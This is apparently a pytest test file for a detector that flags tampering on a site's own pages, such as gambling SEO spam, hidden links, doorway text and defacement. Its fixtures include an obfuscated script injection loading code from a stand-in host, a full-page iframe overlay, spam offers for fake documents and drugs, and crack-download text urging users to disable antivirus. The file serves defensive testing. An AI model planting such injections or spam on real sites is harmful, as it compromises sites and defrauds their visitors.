"""What is taken for tampering on a page of the site, and the near misses that are not."""

import pytest

from app.domain.tampering import TamperSign
from app.engines.analyse.analyser import Analyser
from app.engines.analyse.shipped_data import shipped_classifier
from app.engines.extract.page import extract_document
from app.engines.html.document import HtmlDocument
from app.engines.parsing.own_pages import own_page_of

HOSPITAL = (
    "<h1>市人民医院</h1><p>我院始建于一九五二年，是一所集医疗、教学、科研、预防于一体的综合性医院，现有床位八百张，设有内科、外科、"
    "妇产科等三十余个科室。医院坚持以病人为中心，不断提高医疗服务质量，为群众提供优质的服务。</p><p>门诊时间为每日八时至十七时，节假日"
    "安排专家值班；住院部位于院区东侧，探视时间为每日下午。医院交通便利，多路公交车可以到达，欢迎各界朋友来院就诊咨询。</p>"
    "<p>本院开展预约挂号服务，患者可通过电话、窗口或者自助机办理。检验报告可在自助机上打印，也可以由家属代取。</p>"
)
URL = "https://www.corp.example/about.html"


@pytest.fixture(scope="module")
def analyser():
    return Analyser(scope_target="corp.example")


def signs(analyser, *, head="<title>市人民医院</title>", body=HOSPITAL, url=URL):
    document = HtmlDocument(f"<html><head>{head}</head><body>{body}</body></html>")
    found = extract_document(document, url=url, headers=())
    return list(analyser.examine_own(own_page_of(document, found, url)))


def kinds(*arguments, **keywords):
    return {found.sign for found in signs(*arguments, **keywords)}


def test_an_honest_page_has_no_sign(analyser):
    assert kinds(analyser) == set()


def test_a_title_that_was_changed_is_found_and_quoted(analyser):
    found = signs(analyser, head="<title>澳门新葡京官网-真人百家乐</title>")
    assert [one.sign for one in found] == [TamperSign.TITLE, TamperSign.TITLE_FOREIGN]
    assert {(one.raw, one.dom_path) for one in found} == {("澳门新葡京官网-真人百家乐", "html > head > title")}


def test_a_title_in_numbers_of_characters_is_quoted_as_it_is_written(analyser):
    encoded = "".join(f"&#{ord(character)};" for character in "澳门葡京")
    found = {one.sign: one for one in signs(analyser, head=f"<title>{encoded}</title>")}
    assert found.keys() == {TamperSign.TITLE, TamperSign.TITLE_FOREIGN, TamperSign.TITLE_ENCODED}
    assert found[TamperSign.TITLE_ENCODED].raw == encoded
    assert found[TamperSign.TITLE_ENCODED].snippet == "澳门葡京"


def test_keywords_that_have_nothing_to_do_with_the_page(analyser):
    head = "<title>市人民医院</title><meta name=keywords content='澳门葡京,百家乐投注,真人荷官'>"
    assert kinds(analyser, head=head) == {TamperSign.DESCRIPTION}


def test_a_hidden_text_is_found_with_its_place(analyser):
    body = f"{HOSPITAL}<div style='display:none'>澳门葡京 百家乐投注 真人荷官</div>"
    found = {one.sign: one for one in signs(analyser, body=body)}
    hidden = found[TamperSign.HIDDEN_TEXT]
    assert (hidden.raw, hidden.hidden, hidden.dom_path) == (
        "澳门葡京",
        "display_none",
        "html > body > div:nth-child(5)",
    )


def test_a_text_in_an_element_with_the_attribute_hidden(analyser):
    assert TamperSign.HIDDEN_TEXT in kinds(analyser, body=f"{HOSPITAL}<p hidden>澳门葡京 百家乐投注 真人荷官</p>")


def links(*texts):
    return HOSPITAL + "".join(f"<a href='http://site{number}.test/'>{text}</a> " for number, text in enumerate(texts))


def test_links_of_a_trade_side_by_side(analyser):
    block = signs(analyser, body=links("百家乐", "澳门赌场", "时时彩"))
    assert {one.sign for one in block} == {TamperSign.LINK_BLOCK}
    assert (block[0].raw, block[0].dom_path) == ("http://site0.test/", "html > body > a:nth-child(5)")
    assert kinds(analyser, body=links("百家乐", "澳门赌场")) == {TamperSign.LINK_PAIR}
    assert kinds(analyser, body=links("百家乐", "市卫生局")) == set()


def test_two_hidden_links_of_a_trade_are_a_block_and_their_text_is_not_the_pages(analyser):
    body = f"{links()}<div style='display:none'>{links('百家乐投注', '澳门葡京娱乐城')}</div>"
    (found,) = signs(analyser, body=body)
    assert (found.sign, found.hidden, found.raw) == (TamperSign.LINK_BLOCK, "display_none", "http://site0.test/")
    forum = "https://bbs.corp.example/thread-1.html"
    assert kinds(analyser, body=body, url=forum) == {TamperSign.LINK_BLOCK}


def test_a_doorway_page_under_an_own_path(analyser):
    offer = (
        "<p>澳门葡京线上娱乐城，真人百家乐投注，注册送彩金，首存优惠，提款秒到账，美女荷官在线发牌，信誉网投。</p>" * 4
    )
    assert TamperSign.TEXT in kinds(analyser, head="<title>欢迎光临</title>", body=offer)


def test_a_disguised_script(analyser):
    script = (
        "<script>document.write(unescape('%3Cscript src=%22http://%62%61%64.test/a.js%22%3E%3C/script%3E'))</script>"
    )
    (found,) = signs(analyser, body=HOSPITAL + script)
    assert (found.sign, found.leads_to) == (TamperSign.SCRIPT_WRITES, ("http://bad.test/a.js",))


@pytest.mark.parametrize(
    "head",
    [
        "<title>警方捣毁特大网络赌博平台 百家乐赌场老板获刑</title>",
        "<title>我院医生参加德州扑克慈善赛</title>",
        "<title>体育彩票开奖公告</title>",
        "<title>禁毒宣传：认识海洛因、冰毒的危害</title>",
        "<title>市人民医院</title><meta name=keywords content='医院,挂号,体检,内科,外科'>",
    ],
)
def test_titles_that_report_warn_or_only_mention(analyser, head):
    assert kinds(analyser, head=head) == set()


OFFERED = "<meta name=description content='提供{}等真人棋牌，注册登录入口，支持安卓下载。'>"


def test_words_of_sport_do_not_excuse_an_offer_in_the_description(analyser):
    """Those of the police do: who reports does not offer."""
    hospital = "<title>市人民医院</title>"
    body = HOSPITAL + "<p>" + "门诊时间为周一至周五，请携带医保卡就诊。" * 12 + "</p>"
    assert TamperSign.DESCRIPTION in kinds(analyser, head=hospital + OFFERED.format("英超联赛、电竞赛事"), body=body)
    assert kinds(analyser, head=hospital + OFFERED.format("警方查获的赌博平台"), body=body) == set()


def test_the_title_of_a_changed_page_does_not_excuse_an_offer_in_its_description(analyser):
    """`学院` (a college) is a word of those who report and teach."""
    offered = "金龙国际娱乐城提供真人百家乐、时时彩投注和老虎机，注册送彩金，首存加赠。"
    head = f"<title>学院召开教学工作会议</title><meta name=description content='{offered}'>"
    assert TamperSign.DESCRIPTION in kinds(analyser, head=head)


@pytest.mark.parametrize(
    ("host", "text"),
    [
        ("vegas-palm-slots.test", "Vegas Palm online casino, real money slots"),
        ("zfb-anquan-yz.test", "支付宝-账户安全验证"),
    ],
)
def test_one_link_for_all_to_see_is_no_sign_whatever_it_says(host, text):
    taught = Analyser(scope_target="corp.example", classifier=shipped_classifier())
    assert kinds(taught, body=f"{HOSPITAL}<p><a href='http://{host}/'>{text}</a></p>") == set()


def test_what_visitors_write_is_not_the_sites_own_word(analyser):
    head, url = "<title>澳门新葡京官网-真人百家乐</title>", "https://bbs.corp.example/thread-1.html"
    assert kinds(analyser, head=head, body=links("百家乐", "澳门赌场", "时时彩"), url=url) == set()
    hidden = "<div style='display:none'>澳门葡京 百家乐投注 真人荷官</div>"
    assert kinds(analyser, head=head, body=HOSPITAL + hidden, url=url) == {TamperSign.HIDDEN_TEXT}


def test_a_report_in_a_closed_tab_is_no_hidden_text(analyser):
    tab = (
        "<div style='display:none'>警方通报：查处涉嫌百家乐投注的赌博网站，提醒市民远离网络赌博，举报电话一一〇。</div>"
    )
    assert TamperSign.HIDDEN_TEXT not in kinds(analyser, body=HOSPITAL + tab)


def test_an_article_that_a_theme_fades_in_is_no_hidden_text(analyser):
    """What is hidden for good is one, and so is a transparent block beside the article, however long it is."""
    tea = "本店经营明前龙井、碧螺春、铁观音等各类名茶，茶叶采自高山，口味清甜。" * 4
    bets = "<p>澳门葡京 百家乐投注 真人荷官</p>"
    parts = ("<h1>茶叶</h1>", f"<p>{tea}</p>{bets}", "<p>上一篇</p>", "<p>关于本站</p>")
    article = "".join(f"<div style='opacity:0'>{part}</div><hr>" for part in parts)
    assert TamperSign.HIDDEN_TEXT not in kinds(analyser, body=article)
    assert TamperSign.HIDDEN_TEXT in kinds(analyser, body=article.replace("opacity:0", "display:none"))
    assert TamperSign.HIDDEN_TEXT in kinds(analyser, body=f"<p>{tea}</p><div style='opacity:0'>{bets * 40}</div>")


def test_services_in_a_closed_tab_are_no_papers_for_sale(analyser):
    tab = "<div style='display:none'>公积金个人信息查询 驾驶证服务指南 社保缴费模拟计算 居住证网点查询</div>"
    assert kinds(analyser, body=HOSPITAL + tab) == set()


def test_a_title_of_another_script_is_a_sign(analyser):
    assert kinds(analyser, head="<title>スーパーコピー 時計</title>") >= {TamperSign.TITLE_SCRIPT}
    assert (
        kinds(analyser, head="<title>市人民医院 日本語のご案内</title>") == set()
    )  # for visitors: alone it is nothing
    assert kinds(analyser, head="<title>City hospital</title>") == set()


def test_a_title_that_is_the_door_to_a_betting_house_is_one_sign(analyser):
    found = signs(analyser, head="<title>开云体育官网-登录入口</title>")
    assert [one.sign for one in found if one.sign is TamperSign.TITLE] == [TamperSign.TITLE]


OFFER = "<p>专业办理毕业证、驾驶证，先办后付款，薇信 bzkz_0417x</p>"


def test_an_offer_with_a_handle_is_found_in_a_long_page_unless_visitors_write_there(analyser):
    found = {one.sign: one for one in signs(analyser, body=HOSPITAL * 3 + OFFER)}
    assert "bzkz_0417x" in found[TamperSign.DOORWAY].snippet
    assert TamperSign.DOORWAY not in kinds(
        analyser, body=HOSPITAL + OFFER, url="https://www.corp.example/thread-1-1.html"
    )


def test_a_title_of_an_offer_that_is_strewn_into_copied_news_is_found(analyser):
    line = "上半场第十七分钟中国队首开纪录，皇顶国际最新版下载，下半场又连入两球锁定胜局，大额无忧，教练表示满意。"
    body = "".join(f"<p>{line}</p>" for _ in range(4)) + "<p>本网讯 记者从新闻发布会获悉</p>"
    assert TamperSign.STUFFED in kinds(analyser, head="<title>皇顶国际最新版下载v3.1-市人民医院</title>", body=body)


def test_a_frame_over_the_whole_page_is_found(analyser):
    style = "position:fixed;top:0;left:0;width:100%;height:100%"
    assert kinds(analyser, body=f"{HOSPITAL}<iframe src='https://m.bad.test/' style='{style}'></iframe>") == {
        TamperSign.FRAME_COVERS
    }


def hidden_link(text, host="site.test"):
    return f"{HOSPITAL}<div style='display:none'><a href='https://{host}/'>{text}</a></div>"


def test_one_link_that_nobody_sees_is_enough(analyser):
    (found,) = signs(analyser, body=hidden_link("真人百家乐"))
    assert (found.sign, found.raw, found.hidden) == (TamperSign.HIDDEN_LINK, "https://site.test/", "display_none")
    assert found.snippet == "真人百家乐 (site.test)"


def test_a_link_that_is_hidden_by_an_attribute_alone_is_none_of_the_texts_that_are_seen_and_found(analyser):
    (found,) = signs(analyser, body=f"{HOSPITAL}<div hidden><a href='https://site.test/'>真人百家乐</a></div>")
    assert (found.sign, found.raw) == (TamperSign.HIDDEN_LINK, "https://site.test/")


@pytest.mark.parametrize("text", ["办理毕业证", "cheap viagra no prescription"])
def test_such_a_link_may_offer_papers_or_medicines(analyser, text):
    assert kinds(analyser, body=hidden_link(text)) == {TamperSign.HIDDEN_LINK}


@pytest.mark.parametrize("text", ["合作伙伴", "警方打击网络赌博 真人百家乐 骗局", "补办毕业证流程", "更多"])
def test_a_hidden_link_that_offers_nothing_is_none(analyser, text):
    assert kinds(analyser, body=hidden_link(text)) == set()


def test_a_hidden_link_of_a_visitor_or_to_a_known_service_is_none(analyser):
    body = hidden_link("真人百家乐")
    assert kinds(analyser, body=body, url="https://bbs.corp.example/thread-1-1-1.html") == set()
    knowing = Analyser(scope_target="corp.example", is_known=lambda host: host == "site.test")
    assert kinds(knowing, body=body) == set()


STEROIDS = (
    "<p>Athletes who want fast results can buy anavar online without a prescription, along with dianabol, clenbuterol "
    "and trenbolone cycles, shipped discreetly; pay with bitcoin for 20% off.</p>"
)


def test_a_passage_that_sells_medicines_is_found_and_what_a_practice_writes_about_them_is_not(analyser):
    notes = "<h1>Training notes</h1><p>Three outings of 16 kilometres, two land sessions and one of weights.</p>"
    assert kinds(analyser, head="<title>Rowing Club</title>", body=notes + STEROIDS) == {TamperSign.TEXT_UNSURE}
    policy = (
        "<p>We prescribe tramadol, oxycodone and sleeping tablets for short periods only. A repeat prescription needs "
        "an appointment with your doctor; the pharmacy cannot give out more tablets.</p>"
    )
    title = "<title>Tramadol, oxycodone and sleeping tablets: our policy</title>"
    assert kinds(analyser, head=title, body=HOSPITAL + policy) == set()


@pytest.mark.parametrize("end", ["_百度知道", " - 知乎", "｜搜狐"])
def test_a_title_with_one_product_under_the_name_of_a_place_that_answers(analyser, end):
    assert TamperSign.TITLE in kinds(analyser, head=f"<title>幸运飞艇七码技巧{end}</title>")


def test_other_titles_with_such_a_name_are_no_sign(analyser):
    assert kinds(analyser, head="<title>我院专家做客节目谈高血压防治_百度知道</title>") == set()


@pytest.fixture(scope="module")
def reading():
    """One that has the classifiers."""
    return Analyser(scope_target="corp.example", classifier=shipped_classifier())


@pytest.mark.parametrize(
    "title",
    [
        "สล็อตเว็บตรง ฝากถอนไม่มีขั้นต่ำ บาคาร่าออนไลน์",
        "Nhà cái uy tín - tài xỉu online - link vào mới nhất",
        "토토사이트 추천 먹튀검증 안전놀이터",
        "Онлайн казино: бездепозитный бонус, рабочее зеркало казино",
        "Deneme bonusu veren siteler 2026 - canlı bahis siteleri",
    ],
)
def test_titles_of_the_trade_in_further_languages(analyser, title):
    assert kinds(analyser, head=f"<title>{title}</title>") >= {TamperSign.TITLE}


def test_a_page_whose_words_are_those_of_the_trade(reading):
    offer = (
        "<h1>Adobe Photoshop 2026 Crack + Keygen Full Version Free Download</h1><p>100% working crack with serial key "
        "and keygen, pre-activated full version. Disable Windows Defender before you install the crack, it is a false "
        "positive. Password of the archive is 1234. Download the setup from mirror 1 or mirror 2 and run the loader as "
        "administrator. You may also like: IDM crack serial key, Office activator, AutoCAD keygen.</p>"
    )
    head = "<title>Adobe Photoshop 2026 Crack + Keygen Full Version Free Download [Latest]</title>"
    assert kinds(reading, head=head, body=offer) & {TamperSign.WORDS, TamperSign.HEAD_WORDS}
    assert kinds(reading) == set()


def test_links_that_browsers_with_scripts_do_not_show(reading):
    links = "".join(
        f'<a href="https://site{at}.test/">{text}</a>'
        for at, text in enumerate(("casino bonus no deposit free spins", "buy xanax online no prescription overnight"))
    )
    assert kinds(reading, body=f"{HOSPITAL}<noscript>{links}</noscript>") >= {TamperSign.LINK_BLOCK}


def test_a_line_with_an_offer_and_a_handle_in_a_page_about_something_else(analyser):
    line = "<p>需要真钱棋牌、AG真人、六合彩代理的朋友，可加V：pj-yx666领取彩金。</p>"
    assert TamperSign.TEXT_UNSURE in kinds(analyser, body=HOSPITAL * 4 + line)
    assert kinds(analyser, body=HOSPITAL * 4 + line.replace("可加V：pj-yx666领取彩金", "都是骗局，警方提示")) == set()


def test_a_defaced_page(analyser):
    body = "<h1>Hacked by Nobody</h1><p>greetz</p>"
    assert kinds(analyser, head="<title>Hacked by Nobody</title>", body=body) == {TamperSign.DEFACED}
